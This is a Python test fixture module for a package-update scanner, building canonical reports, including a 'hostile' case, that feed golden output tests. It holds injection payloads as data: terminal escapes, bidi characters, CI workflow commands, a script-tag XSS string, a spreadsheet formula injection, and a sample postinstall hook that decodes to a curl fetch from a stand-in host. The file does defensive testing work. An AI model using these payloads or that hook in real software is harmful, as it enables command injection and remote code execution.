"""Five canonical reports that every output renders: nothing found, held, blocked, incomplete, hostile."""

from typing import Any

from lazaretto.app.report import (
    SCHEMA,
    Report,
    ReportedArtifact,
    ReportedEdge,
    ReportedEvidence,
    ReportedFinding,
    ReportedPlace,
    ReportedRecord,
    ReportedWaiver,
    UpdateReport,
)

HOSTILE = (
    "\x1b[2J\x1b[31mALLOW\x1b[0m",  # a terminal would clear the screen and print our own word
    "\x9b31m",  # the same, in one C1 byte
    "\u202etxt.exe\u202c \u2066\u2069",  # bidirectional overrides
    "\u200b\u200d\ufeff\U000e0041",  # zero width, byte order mark, tag characters
    "::error file=app.js,line=1::pwned",  # a workflow command, at the start of a line
    "\n::set-output name=x::y\r\n##vso[task.setvariable variable=x]y",
    "</script><script>alert(1)</script>",
    "=cmd|'/c calc'!A1",
    "| a | b |\n|---|---|",
    "[x](https://evil.invalid) ![y](https://evil.invalid/p.png)",
    "`code` <!-- -->",
    "\x00\x07\x08\x0c\x7f",
    "\ud800",  # a lone surrogate, as a broken archive gives
)
"""Texts that act in a terminal, a log, a page or a table if an output lets them."""


def finding(**changes: Any) -> ReportedFinding:
    """Return a finding, with some fields of one's own."""
    evidence = ReportedEvidence(
        artifact="plain-1.0.1.tgz",
        path="setup.js",
        line=3,
        column=4,
        text="require('child_process').exec(atob(c))",
        decoded="curl https://drop.example.invalid/x",
        via="base64",
        reach="install",
    )
    fields = {
        "id": "lifecycle-script-added",
        "variant": "acting",
        "title": "adds a script that runs at installation",
        "message": "This update adds a postinstall script that runs setup.js, which starts a process.",
        "why": "A script runs with the rights of whoever installs.",
        "weight": 24.5,
        "group": "install",
        "attack": ("T1546.016",),
        "evidence": (
            evidence,
            ReportedEvidence(artifact="plain-1.0.1.tgz", path="index:publisher", text="mallory <mallory@mail.invalid>"),
        ),
    }
    return ReportedFinding(**{**fields, **changes})


def update(**changes: Any) -> UpdateReport:
    """Return an update in which nothing was found, with some fields of one's own."""
    fields: dict[str, Any] = {
        "purl": "pkg:npm/plain@1.0.1",
        "ecosystem": "npm",
        "name": "plain",
        "version": "1.0.1",
        "before": "1.0.0",
        "verdict": "allow",
        "complete": True,
        "for_cause": False,
        "charge": 0.0,
        "groups": {},
        "reasons": (),
        "would_change": (),
        "findings": (),
        "records": (
            ReportedRecord(check="archive", version=1, state="complete"),
            ReportedRecord(check="lifecycle-script-added", version=1, state="complete"),
        ),
        "not_asked": ("provenance-lost: this registry tells no attestation",),
        "artifacts": (
            ReportedArtifact(
                filename="plain-1.0.1.tgz",
                digest="sha256:" + "0" * 64,
                size=2048,
                files=3,
                before="plain-1.0.0.tgz",
                added=1,
                changed=1,
                removed=0,
            ),
        ),
        "edges": (),
        "waiver": None,
        "decided_at": "2026-03-31T00:22:00Z",
        "rules": "0.1.0+0123456789ab",
        "weights": "1",
        "policy": "1",
    }
    return UpdateReport(**{**fields, **changes})


def report(*updates: UpdateReport, **changes: Any) -> Report:
    """Return a report of some updates."""
    fields: dict[str, Any] = {
        "schema": SCHEMA,
        "product": "lazaretto 0.1.0",
        "updates": updates,
        "weights_status": "provisional",
    }
    return Report(**{**fields, **changes})


def _refused(verdict: str, weight: float, **changes: Any) -> UpdateReport:
    fields: dict[str, Any] = {
        "verdict": verdict,
        "for_cause": True,
        "charge": weight,
        "groups": {"install": weight},
        "reasons": (f"charges of {weight:g} dB reach the {verdict} threshold",),
        "would_change": ("a waiver for pkg:npm/plain@1.0.1",),
        "findings": (finding(weight=weight),),
    }
    return update(**{**fields, **changes})


def _blocked() -> UpdateReport:
    dependency = _refused("block", 61.0, purl="pkg:npm/plain-dep@4.2.1", name="plain-dep", version="4.2.1", before=None)
    edge = ReportedEdge(name="plain-dep", requirement="^4.2.1", group="runtime", resolved="4.2.1", update=dependency)
    unresolved = ReportedEdge(name="gone", requirement="*", group="optional", why="the registry has no such project")
    return update(
        verdict="block",
        reasons=("pkg:npm/plain-dep@4.2.1 is blocked",),
        would_change=("a release without plain-dep",),
        edges=(edge, unresolved),
    )


def _incomplete() -> UpdateReport:
    record = ReportedRecord(
        check="files",
        version=1,
        state="incomplete",
        problems=("lib/a.js:7: nesting beyond the limit",),
        outage="not-understood",
    )
    return update(
        verdict="hold",
        complete=False,
        reasons=("the check files is incomplete (not-understood): lib/a.js:7: nesting beyond the limit",),
        would_change=("a reading of lib/a.js",),
        records=(record,),
    )


def hostile(text: str) -> Report:
    """Return a report in which every text that comes from outside is ``text``."""
    evidence = ReportedEvidence(artifact=text, path=text, line=1, text=text, decoded=text, via=text, reach="call")
    found = finding(message=f"This update adds {text}", evidence=(evidence,))
    record = ReportedRecord(check="files", version=1, state="incomplete", problems=(text,), outage="not-understood")
    edge = ReportedEdge(name=text, requirement=text, group="runtime", resolved=text, why=text)
    waiver = ReportedWaiver(by=text, reason=text, until="2026-12-31T00:00:00Z", instead_of="hold")
    artifact = ReportedArtifact(
        filename=text, digest="sha256:" + "0" * 64, size=1, files=1, before=text, added=0, changed=1, removed=0
    )
    subject = update(
        name=text,
        version=text,
        before=text,
        verdict="hold",
        complete=False,
        for_cause=True,
        charge=24.5,
        reasons=(text,),
        would_change=(text,),
        findings=(found,),
        records=(record,),
        not_asked=(text,),
        artifacts=(artifact,),
        edges=(edge,),
        waiver=waiver,
        disagreements=(text,),
    )
    place = ReportedPlace(purl=subject.purl, path=text, line=4)
    return report(subject, update(), problems=(text,), places=(place,), notes=(text,))


CASES = {
    "nothing-found": report(update(), notes=("the certificate of registry.example.invalid is not verified",)),
    "held": report(_refused("hold", 24.5), update(name="other", purl="pkg:npm/other@1.0.1")),
    "blocked": report(
        _blocked(), places=(ReportedPlace(purl="pkg:npm/plain@1.0.1", path="package-lock.json", line=12),)
    ),
    "incomplete": report(_incomplete(), problems=("uv.lock:9: an entry that is not understood",)),
    "hostile": hostile(" ".join(text for text in HOSTILE if text != "\ud800")),
}
"""What the golden files are made of (``make golden``)."""
